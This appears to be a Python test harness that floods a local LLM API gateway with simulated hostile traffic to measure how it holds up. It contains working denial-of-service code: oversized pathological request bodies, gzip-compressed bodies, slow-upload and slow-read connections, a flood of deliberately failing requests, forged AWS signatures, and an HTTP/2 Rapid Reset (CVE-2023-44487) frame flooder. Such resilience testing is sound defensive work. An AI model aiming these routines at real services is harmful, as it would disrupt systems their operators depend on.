"""What a hostile caller does, each as a process of its own. All share what a real one would have: one machine and a line of 100 Mbit/s."""
import asyncio
import gzip
import json
import multiprocessing
import time

from protocols import PATHS
from processes import start, stop

LINE = 100_000_000 // 8  # bytes a second
PIECE = 64 * 1024
MIB = 2**20
MOST_TOOLS = 20_000
SETTLES = 2  # seconds until bodies are built, connections open and buffers full


class Line:
    """Lets bytes through no faster than the attacker's line."""

    def __init__(self):
        self.free_at = 0.0

    async def take(self, count):
        self.free_at = max(self.free_at, time.monotonic()) + count / LINE
        await asyncio.sleep(max(0.0, self.free_at - time.monotonic()))


def message(token, protocol, model, body, stream=False, headers=""):
    path = PATHS[protocol][stream].format(model=model)
    head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\n{headers}Content-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


def chat(model, **rest):
    return json.dumps({"model": model, "max_tokens": 64, "messages": [{"role": "user", "content": "hi"}], **rest}, separators=(",", ":")).encode()


def tool(name, schema=None):
    return {"type": "function", "function": {"name": name, "parameters": schema or {"type": "object"}}}


def growing_bodies(model):
    """A megabyte each of what once took more than its length in time."""
    # Names that all become the same one where spaces and slashes are not allowed.
    meeting = ["".join("/ "[index >> bit & 1] for bit in range(16)) for index in range(MOST_TOOLS * 3 // 4)]
    yield chat(model, tools=[tool(f"t{name}") for name in meeting])
    names = [f"tool_{index}" for index in range(8_000)]
    yield chat(model, tools=[tool(name) for name in names], tool_choice={
        "type": "allowed_tools", "allowed_tools": {"mode": "auto", "tools": [{"type": "function", "function": {"name": name}} for name in reversed(names)]}})
    yield chat(model, messages=[{"role": "user", "content": " " * MIB}])
    yield chat(model, tools=[tool("t", {"type": "object", "properties": {f"p{i}": {"$ref": f"#/$defs/d{i}"} for i in range(4_000)},
                                        "$defs": {f"d{i}": {"type": "object", "properties": {"a": {"type": "string"}}} for i in range(4_000)}})])
    calls = [{"id": f"call_{i}", "type": "function", "function": {"name": "t", "arguments": "{}"}} for i in range(5_000)]
    results = [{"role": "tool", "tool_call_id": f"call_{i}", "content": "done"} for i in reversed(range(5_000))]
    yield chat(model, messages=[{"role": "assistant", "content": None, "tool_calls": calls}, {"role": "user", "content": "wait"}, *results])


def tiny_parts(model, length):
    part = '{"type":"text","text":""},'
    head = f'{{"model":"{model}","max_tokens":64,"messages":[{{"role":"user","content":['
    return (head + part * (length // len(part)) + part[:-1] + "]}]}").encode()


async def answer(reader):
    """Reads one answer away."""
    head = await reader.readuntil(b"\r\n\r\n")
    length = next((int(line[15:]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")), None)
    if length is None:
        raise EOFError
    await reader.readexactly(length)


async def again_and_again(port, line, messages, at):
    """One connection that sends the next request when the last is answered."""
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            while True:
                one = messages[at % len(messages)]
                at += 1
                for start in range(0, len(one), PIECE):
                    await line.take(min(PIECE, len(one) - start))
                    writer.write(one[start:start + PIECE])
                    await writer.drain()
                await answer(reader)
        except (OSError, EOFError):
            await asyncio.sleep(0.05)  # refused or cut off: it comes back


async def crowd(port, messages, connections):
    line = Line()
    await asyncio.gather(*(again_and_again(port, line, messages, at) for at in range(connections)))


async def growing(port, token):
    await crowd(port, [message(token, "openai", "to-anthropic", body) for body in growing_bodies("to-anthropic")], 8)


async def tiny(port, token):
    body = tiny_parts("to-anthropic", 31 * MIB)
    plain = message(token, "openai", "to-anthropic", body)
    packed = message(token, "openai", "to-anthropic", gzip.compress(body, 9), headers="Content-Encoding: gzip\r\n")
    await crowd(port, [plain, packed, packed, packed], 4)


async def trickle(port, access_key):
    """Well formed and of a known id: that the signature is none shows only when all of the body is there."""
    async def one():
        while True:
            try:
                date = time.strftime("%Y%m%dT%H%M%SZ", time.gmtime())
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                writer.write((
                    f"POST /model/to-bedrock/converse HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nX-Amz-Date: {date}\r\n"
                    f"Authorization: AWS4-HMAC-SHA256 Credential={access_key}/{date[:8]}/us-east-1/bedrock/aws4_request, "
                    f"SignedHeaders=content-type;host;x-amz-date, Signature={'0' * 64}\r\nContent-Length: {32 * MIB}\r\n\r\n").encode())
                writer.write(b"x" * PIECE)
                end = asyncio.ensure_future(reader.read())
                while not end.done():
                    writer.write(b"x" * 100)
                    await writer.drain()
                    await asyncio.sleep(0.1)
                writer.close()
            except OSError:
                pass
            await asyncio.sleep(0.05)

    await asyncio.gather(*(one() for _ in range(40)))


async def slow(port, token):
    """Long streams, of which a kilobyte a second is taken."""
    asked = [message(token, protocol, model, chat(model, stream=True), stream=True) for protocol, model in (("openai", "long"), ("openai", "long-translated"))]

    async def one(at):
        while True:
            try:
                reader, writer = await asyncio.open_connection("127.0.0.1", port, limit=1024)
                writer.write(asked[at % 2])
                while await reader.read(1024):
                    await asyncio.sleep(1)
                writer.close()
            except OSError:
                pass
            await asyncio.sleep(0.05)

    await asyncio.gather(*(one(at) for at in range(64)))


async def failing(port, token):
    """What the provider fails at, so that its lane looks broken."""
    one = message(token, "openai", "busy", chat("busy", user="fails"))

    async def paced(at):
        await asyncio.sleep(at * 0.05)
        while True:
            try:
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                while True:
                    writer.write(one)
                    await answer(reader)
                    await asyncio.sleep(0.2)
            except (OSError, EOFError):
                await asyncio.sleep(0.05)

    await asyncio.gather(*(paced(at) for at in range(4)))


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


async def resets(port, token):
    """CVE-2023-44487: 2,000 streams a second, each reset as soon as it is open, over four connections."""
    def literal(name, value):
        return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value

    fields = b"\x83\x86" + literal(b":path", b"/v1/chat/completions") + literal(b":authority", b"127.0.0.1") + literal(b"authorization", f"Bearer {token}".encode())
    at_once, connections = 25, 4

    async def one():
        while True:
            try:
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
                end, stream = asyncio.ensure_future(reader.read()), 1
                while not end.done():
                    burst = b""
                    for _ in range(at_once):
                        burst += frame(1, 4, stream, fields) + frame(3, 0, stream, (8).to_bytes(4, "big"))
                        stream += 2
                    writer.write(burst)
                    await writer.drain()
                    await asyncio.sleep(at_once * connections / 2000)
                writer.close()
            except OSError:
                pass
            await asyncio.sleep(0.05)

    await asyncio.gather(*(one() for _ in range(connections)))


def _run(attack, port, credential):
    asyncio.run(attack(port, credential))


class Attack:
    """Runs `attack` in a process of its own while entered."""

    def __init__(self, attack, port, credential):
        self.process = multiprocessing.Process(target=_run, args=(attack, port, credential), daemon=True)

    def __enter__(self):
        self.process.start()
        time.sleep(SETTLES)
        return self

    def __exit__(self, *_):
        self.process.kill()
        self.process.join()


class Queue:
    """160 requests at once at a lane for 16, the next ones as soon as they are answered: by the load client, which costs the machine least."""

    def __init__(self, bench, port, token):
        path = f"{bench.directory}/queue-request"
        with open(path, "wb") as f:
            f.write(message(token, "openai", "busy", chat("busy")))
        self.command = [f"{bench.tools}/client", str(port), "160", "1000000", path, "choices"]

    def __enter__(self):
        self.process = start(self.command)
        time.sleep(SETTLES)
        return self

    def __exit__(self, *_):
        stop(self.process)
